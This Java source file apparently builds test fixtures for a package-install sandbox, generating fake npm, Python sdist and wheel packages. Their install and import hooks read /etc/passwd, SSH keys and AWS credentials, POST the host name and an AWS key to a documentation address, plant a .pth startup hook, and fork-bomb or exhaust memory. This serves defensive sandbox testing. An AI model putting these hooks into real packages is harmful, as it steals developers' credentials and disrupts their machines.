package dev.airlock.sandbox;

import java.io.IOException;
import java.nio.file.Path;
import java.util.LinkedHashMap;
import java.util.Map;

/**
 * Synthetic packages for the sandbox tests. The "malicious" ones only aim at documentation addresses
 * (198.51.100.0/24) and reserved names (.example.com), and only ever run inside the sandbox.
 */
final class SandboxFixtures {
    static final String BEACON = "beacon.example.com";
    static final String TARGET = "198.51.100.7";
    static final int PORT = 8080;

    private SandboxFixtures() {
    }

    static Path npm(Path dir, String name, Map<String, String> scripts, Map<String, String> files) throws IOException {
        StringBuilder json = new StringBuilder("{\"name\":\"" + name + "\",\"version\":\"1.0.0\",\"main\":\"index.js\",\"scripts\":{");
        String sep = "";
        for (Map.Entry<String, String> s : scripts.entrySet()) {
            json.append(sep).append('"').append(s.getKey()).append("\":\"").append(s.getValue().replace("\"", "\\\"")).append('"');
            sep = ",";
        }
        json.append("}}\n");
        Map<String, String> entries = new LinkedHashMap<>();
        entries.put("package/package.json", json.toString());
        entries.put("package/index.js", "module.exports = {};\n");
        files.forEach((k, v) -> entries.put("package/" + k, v));
        return Archives.tarGz(dir.resolve(name.replace('/', '-').replace("@", "") + "-1.0.0.tgz"), entries);
    }

    /** postinstall: reads /etc/passwd and the planted SSH key, runs whoami, resolves a name, POSTs the host name. */
    static Path maliciousNpm(Path dir) throws IOException {
        String script = String.join("\n",
                "const fs = require('fs'), os = require('os'), cp = require('child_process');",
                "const dns = require('dns'), http = require('http');",
                "try { fs.readFileSync('/etc/passwd'); } catch (e) {}",
                "try { fs.readFileSync(os.homedir() + '/.ssh/id_rsa'); } catch (e) {}",
                "cp.execSync('whoami');",
                "dns.lookup('" + BEACON + "', (err, address) => {",
                "  http.get({host: '" + BEACON + "', port: 80, path: '/ping'}, (res) => res.resume()).on('error', () => {});",
                "  const req = http.request({host: '" + TARGET + "', port: " + PORT + ", method: 'POST', path: '/c'},",
                "    (res) => res.resume());",
                "  req.on('error', () => {});",
                "  req.end(os.hostname() + ' ' + (process.env.AWS_ACCESS_KEY_ID || ''));",
                "});",
                "");
        return npm(dir, "airlock-fixture-evil", Map.of("postinstall", "node postinstall.js"),
                Map.of("postinstall.js", script));
    }

    static Path maliciousSdist(Path dir) throws IOException {
        String setup = String.join("\n",
                "import os, socket, subprocess, http.client",
                "from setuptools import setup",
                "try:",
                "    open('/etc/passwd').read()",
                "    open(os.path.expanduser('~/.ssh/id_rsa')).read()",
                "except OSError:",
                "    pass",
                "subprocess.run(['whoami'], check=False)",
                "try:",
                "    socket.gethostbyname('" + BEACON + "')",
                "except OSError:",
                "    pass",
                "try:",
                "    c = http.client.HTTPConnection('" + TARGET + "', " + PORT + ", timeout=3)",
                "    c.request('POST', '/c', body=socket.gethostname())",
                "    c.getresponse().read()",
                "except OSError:",
                "    pass",
                "setup(name='airlock_fixture_evil', version='1.0.0', py_modules=['airlock_fixture_evil'])",
                "");
        String root = "airlock_fixture_evil-1.0.0/";
        Map<String, String> files = new LinkedHashMap<>();
        files.put(root + "setup.py", setup);
        files.put(root + "PKG-INFO", "Metadata-Version: 2.1\nName: airlock_fixture_evil\nVersion: 1.0.0\n");
        files.put(root + "airlock_fixture_evil.py", "X = 1\n");
        return Archives.tarGz(dir.resolve("airlock_fixture_evil-1.0.0.tar.gz"), files);
    }

    /**
     * A wheel that does nothing on install, reads the AWS credentials file when imported, and ships a
     * {@code .pth} hook that runs a command whenever Python starts with it on the path.
     */
    static Path importTimeWheel(Path dir) throws IOException {
        String info = "airlock_fixture_wheel-1.0.0.dist-info/";
        Map<String, String> files = new LinkedHashMap<>();
        files.put("airlock_fixture_wheel/__init__.py",
                "import os\ntry:\n    open(os.path.expanduser('~/.aws/credentials')).read()\nexcept OSError:\n    pass\n");
        files.put("airlock_fixture_wheel_hook.pth", "import os; os.system('id -un')\n");
        files.put(info + "METADATA", "Metadata-Version: 2.1\nName: airlock-fixture-wheel\nVersion: 1.0.0\n");
        files.put(info + "WHEEL", "Wheel-Version: 1.0\nGenerator: airlock\nRoot-Is-Purelib: true\nTag: py3-none-any\n");
        files.put(info + "top_level.txt", "airlock_fixture_wheel\n");
        files.put(info + "RECORD", "");
        return Archives.zip(dir.resolve("airlock_fixture_wheel-1.0.0-py3-none-any.whl"), files);
    }

    /** Differs from the baseline package in name and code, but does nothing a developer would mind. */
    static Path harmlessNpm(Path dir) throws IOException {
        return npm(dir, "airlock-fixture-harmless", Map.of("postinstall", "node setup.js"),
                Map.of("setup.js", "const util = require('util');\nconsole.log(util.format('%s ready', 'fixture'));\n",
                        "index.js", "module.exports = (a, b) => a + b;\n"));
    }

    static Path endlessNpm(Path dir) throws IOException {
        return npm(dir, "airlock-fixture-loop", Map.of("postinstall", "node -e \"for (;;) {}\""), Map.of());
    }

    /**
     * Forks sleeping children until fork fails; exits 3 when the process limit stopped it, 4 when it
     * created 5000 processes without hitting any limit.
     */
    static Path forkBombNpm(Path dir) throws IOException {
        String script = String.join("\n",
                "import os, sys, time",
                "for n in range(5000):",
                "    try:",
                "        if os.fork() == 0:",
                "            time.sleep(600)",
                "            os._exit(0)",
                "    except OSError:",
                "        print('fork failed after', n, 'children', flush=True)",
                "        sys.exit(3)",
                "sys.exit(4)",
                "");
        return npm(dir, "airlock-fixture-forks", Map.of("postinstall", "python3 forks.py"), Map.of("forks.py", script));
    }

    static Path memoryHogNpm(Path dir) throws IOException {
        String script = "const a = []; for (;;) { a.push(Buffer.alloc(64 * 1024 * 1024, 1)); }\n";
        return npm(dir, "airlock-fixture-hog", Map.of("postinstall", "node hog.js"), Map.of("hog.js", script));
    }
}
